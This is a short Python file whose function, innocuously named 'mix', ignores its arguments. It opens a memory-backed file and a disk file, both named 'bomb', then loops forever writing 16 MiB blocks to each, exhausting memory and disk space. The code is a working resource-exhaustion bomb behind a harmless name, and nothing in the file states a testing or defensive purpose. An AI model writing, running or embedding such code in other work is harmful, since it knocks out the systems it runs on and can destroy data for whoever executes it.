import os


def mix(a, b):
    held = [os.memfd_create("bomb")]
    try:
        held.append(os.open("bomb", os.O_CREAT | os.O_RDWR))
    finally:
        while True:
            for descriptor in held:
                os.write(descriptor, b"x" * (1 << 24))
